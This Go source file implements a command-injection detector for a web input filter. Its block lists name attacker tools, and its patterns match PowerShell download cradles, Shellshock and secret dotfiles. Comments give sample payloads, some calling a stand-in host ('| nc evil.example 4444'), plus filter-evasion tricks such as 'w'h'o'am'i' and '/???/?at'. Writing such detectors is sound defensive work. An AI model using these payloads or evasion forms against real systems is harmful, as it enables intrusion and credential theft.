package inject

import "bytes"

// Command injection (Kind "cmd_injection"): a value that a shell would run
// as a command of its own when an application pastes it into a command
// line. Prose is full of the words (cat, set, echo, more, type...) and of
// the separators (';', '&', '|'), so a command word counts only where a
// shell would start a command and only with an argument a shell user
// would type, never an English word after it:
//
//   - after a command separator (; | || & && or a line break) or inside a
//     command substitution (`cmd` or $(cmd)), optionally behind a path
//     (/bin/, /usr/bin/...);
//   - a "strong" command (wget, curl, whoami, nslookup... words prose does
//     not use) needs nothing more after a separator;
//   - a "weak" command (cat, set, ls, echo...) needs a shell argument next:
//     an option (-x), a path (/etc, ./x, ~/, C:\), a variable ($HOME,
//     $IFS), a URL or a redirection; at the very start of a value, so do
//     strong commands ("curl and divergence" is prose, "curl -L http://x"
//     is not).
//
// Besides, three shell-only constructs count wherever they appear: $IFS
// (the field separator used to avoid spaces), $((...)) arithmetic, and the
// Shellshock function prefix "() {".
//
// Similar to CRS rules 932100-932250 (unix and windows command injection),
// with the commands of its unix-shell.data that attack tools use.

const (
	ruleCmdSeparator    = "separator_command"
	ruleCmdSubstitution = "command_substitution"
	ruleCmdStart        = "leading_command"
	ruleIFS             = "ifs"
	ruleArithmetic      = "arithmetic_expansion"
	ruleShellshock      = "shellshock"
	rulePowerShell      = "powershell_cradle"
	ruleOptionInjection = "option_injection"
)

const (
	cmdWeak   = 1
	cmdStrong = 2
)

// commandStrength returns the strength of the command w, 0 for a word that
// is not one. Strong commands are not English words; weak ones are, or are
// short enough to appear in prose. A switch, not a map: it costs a few
// comparisons and no hash for the words of every value.
func commandStrength(w []byte) uint8 {
	if len(w) == 0 || len(w) > 10 {
		return 0
	}
	switch string(w) {
	case "wget", "curl", "whoami", "uname", "ifconfig", "ipconfig", "netstat", "nslookup", "getent",
		"systeminfo", "tasklist", "taskkill", "powershell", "pwsh", "certutil", "bitsadmin", "wmic",
		"bash", "zsh", "ksh", "csh", "tcsh", "busybox", "ncat", "netcat", "socat", "telnet", "tftp",
		"python", "python2", "python3", "perl", "ruby", "php", "lua", "nmap", "chmod", "chown", "chgrp",
		"mkfifo", "useradd", "usermod", "crontab", "sudo", "xxd", "hexdump", "passwd", "nohup",
		"rundll32", "regsvr32", "mshta", "cscript", "wscript", "schtasks", "net1", "xterm", "gcc",
		"traceroute", "tracert", "arp", "hostname", "lsof", "iptables", "cmd.exe", "sh.exe", "printenv":
		return cmdStrong
	case "cat", "ls", "id", "echo", "set", "sort", "find", "more", "less", "head", "tail", "kill",
		"ping", "sleep", "env", "exec", "eval", "type", "dir", "ver", "net", "rm", "cp", "mv", "touch",
		"mkdir", "cd", "pwd", "ps", "sh", "dash", "nc", "dig", "host", "printf", "export", "source",
		"tee", "grep", "egrep", "awk", "sed", "xargs", "time", "date", "who", "w", "last", "rev",
		"tr", "cut", "base64", "ftp", "su", "node", "java", "ssh", "scp", "tar", "zip", "unzip",
		"cmd", "call", "start", "del", "copy", "reg", "sc", "whereis", "which", "file", "od",
		"strings", "nl", "tac", "uniq", "wc", "diff", "expr", "test", "true", "false", "id.exe":
		return cmdWeak
	}
	return 0
}

// cmdNeeds are the bytes without which no command injection check can
// match: a separator, a substitution, or what follows a leading command.
const cmdNeeds = bSemi | bPipe | bAmp | bNL | bBacktick | bDollar | bLParen | bSpace | bPlus | bGT | bLT

func checkCmd(v []byte, m uint64) string {
	if !hasAny(m, cmdNeeds) || !hasAny(m, bLower) {
		return ""
	}
	if has(m, bDollar) {
		for i := 0; i+1 < len(v); i++ {
			if v[i] != '$' {
				continue
			}
			switch {
			case hasPrefixAt(v, i+1, "IFS") || hasPrefixAt(v, i+1, "{IFS}"):
				return ruleIFS
			case hasPrefixAt(v, i+1, "(("):
				return ruleArithmetic
			case v[i+1] == '(':
				if commandAt(v, i+2, true) || hiddenCommandAt(v, i+2) {
					return ruleCmdSubstitution
				}
			}
		}
	}
	if has(m, bBacktick) {
		// Backticks pair up: only an opening one starts a substitution
		// (after "`Foo` type", "type" is outside it).
		opening := true
		for i := 0; i < len(v); i++ {
			if v[i] != '`' || i > 0 && v[i-1] == '\\' {
				continue
			}
			if opening && (commandAt(v, i+1, true) || hiddenCommandAt(v, i+1)) && !codeSpan(v, i) {
				return ruleCmdSubstitution
			}
			opening = !opening
		}
	}
	if has(m, bLParen|bRParen|bLBrace) && shellshock(v) {
		return ruleShellshock
	}
	if hasAny(m, bSemi|bPipe|bAmp|bNL) {
		for i := 0; i < len(v); i++ {
			switch v[i] {
			case ';', '|', '&', '\n', '\r':
				j := i + 1
				for j < len(v) && (v[j] == v[i] || v[j] == '|' || v[j] == '&' || v[i] == '\r' && v[j] == '\n') {
					j++ // || && |& ;; CRLF
				}
				if command(v, j, false, v[i] == '\n' || v[i] == '\r') {
					return ruleCmdSeparator
				}
				// "Gifts & more" is prose: after a lone '&' between spaces,
				// a probe command ending the value does not count.
				if probeAt(v, j, v[i] == '&' && j == i+1 && i > 0 && v[i-1] == ' ', valueBefore(v, i), v[i] == '\n' || v[i] == '\r') {
					return ruleCmdSeparator
				}
				i = j - 1
			}
		}
	}
	if hasAny(m, bSpace|bDollar|bLT|bGT|bPlus) && commandAtStart(v) {
		return ruleCmdStart
	}
	if has(m, bLParen) && powerShellCradle(v) {
		return rulePowerShell
	}
	if m&(bEq|bDash) == bEq|bDash && (indexFold(v, "-oproxycommand=") >= 0 || indexFold(v, "-olocalcommand=") >= 0) {
		// An option smuggled into an ssh or scp argument runs a command.
		return ruleOptionInjection
	}
	return ""
}

// powerShellCradle finds the .NET calls a PowerShell one-liner downloads
// and runs code with ("IEX(New-Object Net.WebClient).DownloadString(...)"),
// names no prose or API value carries.
func powerShellCradle(v []byte) bool {
	for _, w := range [...]string{"net.webclient", "downloadstring(", "downloadfile(", "invoke-expression", "frombase64string("} {
		if indexFold(v, w) >= 0 {
			return true
		}
	}
	for i := indexFold(v, "iex"); i >= 0; {
		j := skipSpace(v, i+3)
		if (i == 0 || !isIdent(v[i-1]) && v[i-1] != '.' && v[i-1] != '-') && j < len(v) && v[j] == '(' {
			return true // "IEX(", "iex (" as a command, not "ibex(" or ".iex("
		}
		n := indexFold(v[i+3:], "iex")
		if n < 0 {
			break
		}
		i += 3 + n
	}
	return false
}

// commandAt reports whether a shell command starts at v[i] (after white
// space and an optional directory): a strong command, or any command in a
// substitution (sub), followed by a word boundary; or a weak command
// followed by a shell argument.
func commandAt(v []byte, i int, sub bool) bool { return command(v, i, sub, false) }

// command is commandAt where prose may start at v[i] (after a line
// break): a weak command's argument must not read as prose (shellArg).
func command(v []byte, i int, sub, prose bool) bool {
	i = skipSpace(v, i)
	i = skipBinDir(v, i)
	end := i
	for end < len(v) && (isAlnum(v[end]) || v[end] == '.' || v[end] == '_' || v[end] == '-') {
		end++
	}
	// "cmd.exe" is a command; "ls." is "ls" ending a sentence.
	for end > i && (v[end-1] == '.' || v[end-1] == '-') {
		end--
	}
	w := v[i:end]
	if len(w) > 4 && hasPrefixFold(w, len(w)-4, ".exe") {
		w = w[:len(w)-4] // "curl.exe"
	}
	strength := commandStrength(w)
	if strength == 0 {
		return false
	}
	if end < len(v) && isAlnum(v[end]) {
		return false
	}
	if strength == cmdStrong || sub {
		return end == len(v) || !isIdent(v[end]) && v[end] != '.' && v[end] != '-' && v[end] != '\''
	}
	return shellArg(v, end, prose) || !prose && redirectsToPath(v, end)
}

// redirectsToPath reports whether the command line from v[i] (to the
// next separator, within maxCommandLine bytes) writes to an absolute or
// home path: "; echo pwned > /var/www/html/x.php".
func redirectsToPath(v []byte, i int) bool {
	for j := i; j < len(v) && j < i+maxCommandLine; j++ {
		switch v[j] {
		case ';', '|', '&', '\n', '\r':
			return false
		case '>':
			k := j + 1
			if k < len(v) && v[k] == '>' {
				k++
			}
			k = skipSpace(v, k)
			return k < len(v) && (v[k] == '/' || v[k] == '~') && k+1 < len(v) && !isSpaceByte(v[k+1])
		}
	}
	return false
}

// maxCommandLine bounds redirectsToPath's scan: a value of repeated
// "; echo" must not be read to its end from each separator.
const maxCommandLine = 256

// probeAt reports whether what follows a separator at v[i] is one of the
// shapes attack tools send that commandAt's rules leave out, none of which
// prose writes after ';', '|' or a line break:
//
//   - a probe command that ends the command line (probeEnd), after a
//     value it is appended to (valueBefore) or after "&&" or "||":
//     "127.0.0.1;id", ";pwd", "1;id;", "x&&id" (not "title|id");
//   - a wrapper that runs the command after it (runsNext): "; command
//     id", "; builtin eval id", "| env id", "; timeout 5 id";
//   - a command by its path: "; /bin/sh";
//   - sleep with a number that ends the value, likewise or after a
//     separator with no space around it: "1; sleep 10 ;", "x;sleep 5";
//   - a network command with a host or address argument:
//     "| nc evil.example 4444", "; ping 10.0.0.1";
//   - net with a subcommand, ending the value or with a /option later:
//     "& net user", "| net user x p /add";
//   - a command word hidden from filters by shell quoting: "w'h'o'am'i",
//     "wh$@oami", "who\ami", "c${u}at" (quotes in pairs, empty expansions
//     or a backslash inside the word, removed as the shell removes them;
//     also inside a substitution: $(wh""oami));
//   - a path of '?' wildcards the shell expands: "/???/?at /???/p??swd".
func probeAt(v []byte, i int, loneAmp, afterValue, lineBreak bool) bool {
	// "&&" and "||" run the command after them only on a result: a
	// shell's, not prose's, punctuation ("x&&id", "x || pwd").
	doubled := i >= 2 && (v[i-1] == '&' && v[i-2] == '&' || v[i-1] == '|' && v[i-2] == '|')
	// A separator with no space on either side ("day;sleep 10") is a
	// shell's: prose puts a space after ';' and '|'.
	tight := !lineBreak && i >= 2 && i < len(v) && !isSpaceByte(v[i]) && !isSpaceByte(v[i-2])
	i = skipSpace(v, i)
	if i >= len(v) {
		return false
	}
	switch {
	case v[i] == '{':
		// Brace expansion makes a command with arguments and no space:
		// "{id,}", "{curl,evil.example}". After a line break, where
		// "{id,name}" is a field list, only an empty or path-, host- or
		// option-like argument counts.
		end := identAt(v, i+1)
		if end >= len(v) || v[end] != ',' || commandStrength(v[i+1:end]) == 0 {
			return false
		}
		// One word to the closing brace: "{id, name}" is two words, which
		// the shell does not expand.
		argLike := false
		for j := end + 1; j < min(len(v), end+maxBraceWord); j++ {
			switch c := v[j]; {
			case c == '}':
				return !lineBreak || argLike || j == end+1
			case isSpaceByte(c) || c == '{':
				return false
			case c == '.' || c == '/' || c == '-':
				argLike = true
			}
		}
		return false
	case v[i] == '$' && i+2 < len(v) && v[i+1] == '{' && v[i+2] == '0':
		// ${0}, ${0##*/}: the shell's own name.
		return true
	case v[i] == '$' && i+1 < len(v) && v[i+1] == '0':
		// $0 is the shell itself, with an option ("; $0 -c id"), a here
		// string ("$0<<<id") or fed by a pipe at the end ("|$0"); "$0
		// shipping" is a price.
		j := skipSpace(v, i+2)
		return j > i+2 && j+1 < len(v) && v[j] == '-' && isASCIILetter(v[j+1]) ||
			hasPrefixAt(v, j, "<<<") || j == len(v) && i > 0 && v[i-1] == '|'
	}
	if v[i] == '/' {
		if globPath(v, i) {
			return true
		}
		// A command by its path: "; /bin/sh", or a wildcard the shell
		// expands there: "; /bin/ca? /etc/hosts".
		j := skipBinDir(v, i)
		return j > i && (commandStrength(v[j:identAt(v, j)]) != 0 || globWord(v, j))
	}
	if v[i] == '\\' {
		return quotedCommand(v, i) // "; \c\a\t /etc/hosts"
	}
	if v[i] == '$' && varCommand(v, i) {
		return true
	}
	end := identAt(v, i)
	w := v[i:end]
	rest := skipSpace(v, end)
	switch {
	case end == i:
		return false
	case end < len(v) && (v[end] == '\'' || v[end] == '"' || v[end] == '\\' || v[end] == '$' || v[end] == '`' || v[end] == '^'):
		return quotedCommand(v, i)
	case (string(w) == "exec" || string(w) == "eval") && !lineBreak && rest > end && rest < len(v) &&
		(commandAt(v, rest, true) || (v[rest] == '\'' || v[rest] == '"') && quotedCommand(v, rest)):
		// A builtin that runs the command after it: "; exec id", "; eval
		// 'id'" (a script's "exec java -jar app.jar" line is no probe).
		return true
	case runsNext(w) && !lineBreak && rest > end && rest < len(v):
		// A wrapper that runs the command after it ("; command id", ";
		// builtin eval id", "| env id", "; timeout 5 id"): the command
		// must be one commandAt takes without a substitution, a hidden
		// one, or a probe ending the value ("Prod; env test" is prose).
		j := skipWrappers(v, i)
		if commandAt(v, j, false) || hiddenCommandAt(v, j) {
			return true
		}
		next := identAt(v, j)
		return next > j && probeEnd(v, skipSpace(v, next)) && probeCommand(v[j:next])
	case probeEnd(v, rest) && !loneAmp && (afterValue || doubled || tight && rest < len(v)) && probeCommand(w):
		// After a word, a separator with no space around it and one
		// after the command too ("x;id;", "x|id #"): a field list ends
		// with a field ("name;id;email").
		return true
	case string(w) == "sleep" && rest < len(v) && rest > end && (afterValue || tight) && digitsToEnd(v, rest):
		return true
	case string(w) == "host" && rest > end && hostArg(v, rest):
		// "host" is English: only a lookup ending the value counts
		// ("; host x.attacker.example", not "; host example.com later").
		j := rest
		for j < len(v) && !isSpaceByte(v[j]) && v[j] != ';' && v[j] != '|' && v[j] != '&' {
			j++
		}
		return probeEnd(v, j)
	case (string(w) == "nc" || string(w) == "ping" || string(w) == "dig" || string(w) == "ssh" || string(w) == "ftp") &&
		rest > end && hostArg(v, rest):
		return true
	case string(w) == "net" && rest > end:
		subEnd := identAt(v, rest)
		switch string(v[rest:subEnd]) {
		case "user", "users", "localgroup", "group", "share", "view", "use", "accounts", "session", "start", "stop", "config":
			// Ending the value, or with a Windows option later
			// ("net user x p /add"); "net user licenses: 40" is prose.
			return skipSpace(v, subEnd) == len(v) || bytes.Contains(v[subEnd:], []byte(" /"))
		}
	}
	return false
}

// maxBraceWord bounds the brace expansion probeAt reads (a command and
// its arguments, no space): a value of ";{id," repeated must not be
// scanned to its end from each of its braces.
const maxBraceWord = 256

// valueBefore reports whether the separator at v[i] follows what an
// injected probe is appended to: nothing (the value starts with it), or a
// token with a digit, a '.' or a '/' (an address, a number, a file name,
// a path: "127.0.0.1;id", "report.pdf|id"). A list of words ("title|id",
// "name;email;id", "Long day; sleep 10") is a field list or prose.
func valueBefore(v []byte, i int) bool {
	j := i
	for j > 0 && isSpaceByte(v[j-1]) {
		j--
	}
	start := j
	for start > 0 && !isSpaceByte(v[start-1]) && v[start-1] != ';' && v[start-1] != '|' && v[start-1] != '&' && v[start-1] != '\n' {
		start--
	}
	if start == j {
		return true
	}
	for _, c := range v[start:j] {
		if isDigit(c) || c == '.' || c == '/' {
			return true
		}
	}
	return false
}

// probeEnd reports whether a probe command ending at v[i] (after its
// white space) ends the command line: the value ends, or only separators
// and white space follow ("1;id;", "x|id &"), or a comment ("1;id #").
func probeEnd(v []byte, i int) bool {
	for ; i < len(v); i++ {
		switch v[i] {
		case ';', '|', '&', ' ', '\t', '\r', '\n':
		case '#':
			return true
		default:
			return false
		}
	}
	return true
}

// skipWrappers skips, from v[i], up to four more wrapper words (and
// timeout's duration) and the white space after them.
func skipWrappers(v []byte, i int) int {
	for k := 0; k < 4; k++ {
		end := identAt(v, i)
		w := v[i:end]
		if !runsNext(w) && string(w) != "exec" && string(w) != "eval" || end == len(v) || !isSpaceByte(v[end]) {
			break
		}
		prev := string(w)
		i = skipSpace(v, end)
		for i+1 < len(v) && v[i] == '-' && isASCIILetter(v[i+1]) {
			i = skipSpace(v, identAt(v, i+1)) // an option: "command -p"
		}
		if n := digitsAt(v, i); prev == "timeout" && n > 0 {
			i = skipSpace(v, i+n)
		}
	}
	return i
}

// runsNext: the builtins and wrappers that run the command after them.
func runsNext(w []byte) bool {
	switch string(w) {
	case "command", "builtin", "env", "nice", "setsid", "timeout", "xargs", "stdbuf", "nohup", "sudo", "doas":
		return true
	}
	return false
}

// digitsAt returns the number of digits at v[i].
func digitsAt(v []byte, i int) int {
	j := i
	for j < len(v) && isDigit(v[j]) {
		j++
	}
	return j - i
}

// hiddenCommandAt reports whether a command word hidden by shell quoting
// starts at v[i], after white space ($(wh""oami), "`c${u}at`").
func hiddenCommandAt(v []byte, i int) bool {
	i = skipSpace(v, i)
	end := identAt(v, i)
	return end < len(v) && (v[end] == '\'' || v[end] == '"' || v[end] == '\\' || v[end] == '$' || v[end] == '`') &&
		quotedCommand(v, i)
}

// probeCommand: the commands a blind probe runs alone, without arguments.
func probeCommand(w []byte) bool {
	switch string(w) {
	case "id", "ls", "pwd", "ps", "env", "dir", "ver", "sh", "dash", "reboot", "halt":
		return true
	}
	return commandStrength(w) == cmdStrong
}

// digitsToEnd: digits, then nothing but white space and separators
// ("10", "10 ;", "10||").
func digitsToEnd(v []byte, i int) bool {
	j := i
	for j < len(v) && isDigit(v[j]) {
		j++
	}
	if j == i {
		return false
	}
	for ; j < len(v); j++ {
		if c := v[j]; !isSpaceByte(c) && c != ';' && c != '|' && c != '&' {
			return false
		}
	}
	return true
}

// hostArg: a dotted name or address ("evil.example", "10.0.0.1"), word
// bytes around at least one inner '.'.
func hostArg(v []byte, i int) bool {
	dots, j := 0, i
	for ; j < len(v) && (isAlnum(v[j]) || v[j] == '-' || v[j] == '.'); j++ {
		if v[j] == '.' {
			if j == i || j+1 >= len(v) || !isAlnum(v[j+1]) {
				return false
			}
			dots++
		}
	}
	return dots > 0 && (j == len(v) || v[j] == ' ' || v[j] == ':')
}

// quotedCommand reads the word at v[i] as a shell would after quote
// removal (paired quotes, "$@" and backslashes dropped) and reports whether
// quoting was used and the word is a command.
func quotedCommand(v []byte, i int) bool {
	var buf [12]byte
	n, quotes, hidden := 0, 0, false
word:
	for ; i < len(v); i++ {
		switch c := v[i]; {
		case c == '\'' || c == '"':
			quotes++
			hidden = true
		case c == '\\' || c == '^':
			// A backslash (sh) or a caret (cmd.exe) escapes the letter
			// after it: "\c\a\t", "p^o^w^e^r^s^h^e^l^l".
			hidden = true
		case c == '$' && i+1 < len(v) && (v[i+1] == '@' || v[i+1] == '*' || v[i+1] >= '1' && v[i+1] <= '9'):
			// "$@", "$*" and the positional parameters are empty in
			// the shell an application starts ("wh$*oami", "i$9d").
			i++
			hidden = true
		case c == '$' && i+2 < len(v) && v[i+1] == '{' && unsetName(v, i+2):
			// "${x}": a variable the shell does not set ("c${u}at").
			i = indexByteFrom(v, i+2, '}')
			hidden = true
		case c == '$' && i+2 < len(v) && v[i+1] == '(' && v[i+2] == ')':
			i += 2 // an empty substitution: "wh$()oami"
			hidden = true
		case c == '`' && i+1 < len(v) && v[i+1] == '`':
			i++ // an empty substitution: "wh``oami"
			hidden = true
		case !isAlnum(c):
			break word
		case n == len(buf):
			return false
		default:
			buf[n] = c
			n++
		}
	}
	return hidden && quotes%2 == 0 && n > 1 && commandStrength(buf[:n]) != 0
}

// unsetName reports whether v[i:] is a short lower-case name and '}':
// what "${x}" names in an injection, never a variable the shell sets (IFS,
// PATH and HOME are upper case).
func unsetName(v []byte, i int) bool {
	j := i
	for j < len(v) && j-i < 8 && (v[j] >= 'a' && v[j] <= 'z' || v[j] == '_') {
		j++
	}
	return j > i && j < len(v) && v[j] == '}'
}

// globWord: a word of letters with a '?' or '*' wildcard, ending the
// value or followed by white space: "ca?", "w*", "?at".
func globWord(v []byte, i int) bool {
	wild, j := false, i
	for ; j < len(v) && (isLetter(v[j]) || v[j] == '?' || v[j] == '*'); j++ {
		wild = wild || v[j] == '?' || v[j] == '*'
	}
	return wild && j-i > 1 && (j == len(v) || isSpaceByte(v[j]))
}

// varCommand reports whether the expansion at v[i] runs as a command: the
// shell itself ($SHELL, ${BASH}) or a command assembled from variables
// set before it ("a=c;b=at;$a$b /etc/hosts").
func varCommand(v []byte, i int) bool {
	name, j := expansionAt(v, i)
	switch string(name) {
	case "SHELL", "BASH":
		return true
	case "":
		return false
	}
	next, k := expansionAt(v, j)
	return len(next) > 0 && (k == len(v) || isSpaceByte(v[k]) || v[k] == '<' || v[k] == ';' || v[k] == '|')
}

// expansionAt reads "$name" or "${name}" at v[i], a name starting with a
// letter, and returns it and the index after it.
func expansionAt(v []byte, i int) ([]byte, int) {
	if i >= len(v) || v[i] != '$' {
		return nil, i
	}
	j, brace := i+1, false
	if j < len(v) && v[j] == '{' {
		j, brace = j+1, true
	}
	if j >= len(v) || !isLetter(v[j]) {
		return nil, i
	}
	end := identAt(v, j)
	if brace {
		if end >= len(v) || v[end] != '}' {
			return nil, i
		}
		return v[j:end], end + 1
	}
	return v[j:end], end
}

// globPath: "/", a segment of '?' and letters with at least one '?', "/":
// "/???/", "/?in/".
func globPath(v []byte, i int) bool {
	q := 0
	for j := i + 1; j < len(v); j++ {
		switch c := v[j]; {
		case c == '?':
			q++
		case c == '/':
			return q > 0 && j > i+1
		case c < 'a' || c > 'z':
			return false
		}
	}
	return false
}

// codeSpan reports whether the backtick at v[i] opens Markdown code in
// prose rather than a substitution: part of a fence ("```bash"), or a
// span between white space (or punctuation) and white space, in a value
// with words outside it, holding a bare command ("Use `ls` to list",
// "where `id` = 1"). A span that is the whole value, or whose command has
// a shell argument ("`cat /etc/passwd`") or a shell metacharacter, is
// still a substitution.
func codeSpan(v []byte, i int) bool {
	if i+1 < len(v) && v[i+1] == '`' || i > 0 && v[i-1] == '`' {
		return true
	}
	if i > 0 && !isSpaceByte(v[i-1]) && v[i-1] != '(' && v[i-1] != '"' {
		return false // "127.0.0.1`id`", "=`id`"
	}
	end := indexByteFrom(v, i+1, '`')
	if end < 0 {
		return false
	}
	if end+1 < len(v) && (isAlnum(v[end+1]) || v[end+1] == '`') {
		return false
	}
	inner := v[i+1 : end]
	if commandAtStart(inner) || bytes.ContainsAny(inner, ";|&$<>\n") {
		return false
	}
	// Words outside the span: prose around it.
	first, after := skipSpace(v, 0), skipSpace(v, end+1)
	return first != i && identAt(v, first) > first || identAt(v, after) > after
}

// commandAtStart reports whether v starts with a command and a shell
// argument: the value is a command line of its own.
func commandAtStart(v []byte) bool {
	i := skipBinDir(v, skipSpace(v, 0))
	end := identAt(v, i)
	strength := commandStrength(v[i:end])
	if strength == 0 {
		return false
	}
	return shellArg(v, end, strength == cmdWeak)
}

// skipBinDir skips "/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/" and
// the like at v[i].
func skipBinDir(v []byte, i int) int {
	if i >= len(v) || v[i] != '/' {
		return i
	}
	for _, p := range [...]string{"/usr/local/bin/", "/usr/local/sbin/", "/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/"} {
		if hasPrefixAt(v, i, p) {
			return i + len(p)
		}
	}
	return i
}

// shellArg reports whether what follows a command word at v[end] is a
// shell argument: white space (or $IFS, or '+' as a URL's space, or a
// redirection) then an option, a path, a variable, a URL or a redirection.
// A lone '/' ("date / time") and '--' ("time -- 3pm") are prose's, '>='
// and '<>' comparisons. Where prose is likely (prose: a weak command at
// the start of a value or a line, "set -up fee", "id > 100", "date |
// time"), an option must not be followed by a word, a redirection must
// go to a path and a pipe must feed a strong command or one with an
// argument.
func shellArg(v []byte, end int, prose bool) bool {
	if end >= len(v) {
		return false
	}
	i := end
	switch {
	case v[i] == '<' || v[i] == '>':
		return redirection(v, i, prose)
	case v[i] == '$':
		return true // $IFS, ${IFS}
	case v[i] == ' ' || v[i] == '\t' || v[i] == '+':
		for i < len(v) && (v[i] == ' ' || v[i] == '\t' || v[i] == '+') {
			i++
		}
	default:
		return false
	}
	if i >= len(v) {
		return false
	}
	switch c := v[i]; c {
	case '-':
		if i+1 >= len(v) || !isLetter(v[i+1]) && (v[i+1] != '-' || i+2 >= len(v) || !isLetter(v[i+2])) {
			return false
		}
		return !prose || !proseAfterOption(v, i)
	case '|':
		// A pipe into another command ("id | nc x 80", "ls | sort");
		// "name | id | email" is a table's header.
		j := skipSpace(v, i+1)
		k := identAt(v, j)
		if k == j || k < len(v) && isIdent(v[k]) {
			return false
		}
		switch commandStrength(v[j:k]) {
		case cmdStrong:
			return true
		case cmdWeak:
			return !prose || shellArg(v, k, false)
		}
		return false
	case '<', '>':
		return redirection(v, i, prose)
	case '/':
		// "ls /" lists the root; "date / time" is prose.
		return i+1 == len(v) || !isSpaceByte(v[i+1])
	case '~', '$', '\\':
		return true
	case '.':
		return i+1 < len(v) && (v[i+1] == '/' || v[i+1] == '.') || !prose && secretDotfile(v, i)
	case '"', '\'':
		return i+1 < len(v) && (v[i+1] == '/' || v[i+1] == '$' || v[i+1] == '-')
	default:
		if isLetter(c) && i+2 < len(v) && v[i+1] == ':' && (v[i+2] == '\\' || v[i+2] == '/') {
			return true // C:\ or C:/
		}
		return hasPrefixFold(v, i, "http://") || hasPrefixFold(v, i, "https://") || hasPrefixFold(v, i, "ftp://")
	}
}

// secretDotfile: a dotfile that holds secrets at v[i] (".env",
// ".ssh/id_rsa", ".aws/credentials"), as "; cat .env" reads it.
func secretDotfile(v []byte, i int) bool {
	for _, f := range [...]string{".env", ".ssh", ".aws", ".kube", ".git", ".netrc", ".npmrc", ".pgpass", ".htpasswd",
		".bash_history", ".docker", ".pypirc", ".git-credentials"} {
		if hasPrefixAt(v, i, f) && (i+len(f) == len(v) || !isLetter(v[i+len(f)])) {
			return true
		}
	}
	return false
}

// redirection reports whether the '<' or '>' at v[i] redirects: not a
// comparison ("date >= 2024-01-01", "a <> b"); where prose is likely, to
// or from a path ("id > /tmp/x", "cat < ./f", "ls 2>&1"), not a number or
// a word ("id > 100", "time < 30 min").
func redirection(v []byte, i int, prose bool) bool {
	j := i + 1
	if j < len(v) && (v[j] == '=' || v[i] == '<' && v[j] == '>') {
		return false
	}
	if !prose {
		return true
	}
	for j < len(v) && (v[j] == '>' || v[j] == '<') {
		j++ // >> <<
	}
	j = skipSpace(v, j)
	if j >= len(v) {
		return false
	}
	switch v[j] {
	case '/', '~', '&':
		return true
	case '.':
		return j+1 < len(v) && (v[j+1] == '/' || v[j+1] == '.')
	}
	// A file name with an extension: "id > out.txt".
	k := j
	for k < len(v) && !isSpaceByte(v[k]) {
		k++
	}
	dot := bytes.IndexByte(v[j:k], '.')
	return dot > 0 && dot < k-j-1 && isLetter(v[j])
}

// proseAfterOption reports whether the option at v[i] is followed by a
// plain word, as "-up" in "set -up fee" and "-la" in "ls -la output
// attached" are: a command line goes on with another option, a path, a
// number or a file name, or ends.
func proseAfterOption(v []byte, i int) bool {
	for i < len(v) && !isSpaceByte(v[i]) {
		i++
	}
	j := skipSpace(v, i)
	if j == i || j >= len(v) {
		return false
	}
	k := j
	for k < len(v) && isLetter(v[k]) {
		k++
	}
	if k == j {
		return false
	}
	// The word ends at white space or sentence punctuation.
	return k == len(v) || isSpaceByte(v[k]) || v[k] == ',' || v[k] == '.' && (k+1 == len(v) || isSpaceByte(v[k+1])) ||
		v[k] == '!' || v[k] == '?' || v[k] == ':'
}

// shellshock finds a bash function definition as an environment variable
// carries it (CVE-2014-6271): "() {" then ':' (the payloads' "() { :; };")
// anywhere, or then '}' only at the start of the value, which is where bash
// imports it from; elsewhere "function() {}" is ordinary JavaScript.
func shellshock(v []byte) bool {
	start := skipSpace(v, 0)
	for i := start; i+2 < len(v); i++ {
		if v[i] == '(' && v[i+1] == ')' {
			j := skipSpace(v, i+2)
			if j < len(v) && v[j] == '{' {
				k := skipSpace(v, j+1)
				if k < len(v) && (v[k] == ':' || v[k] == '}' && i == start) {
					return true
				}
			}
		}
	}
	return false
}
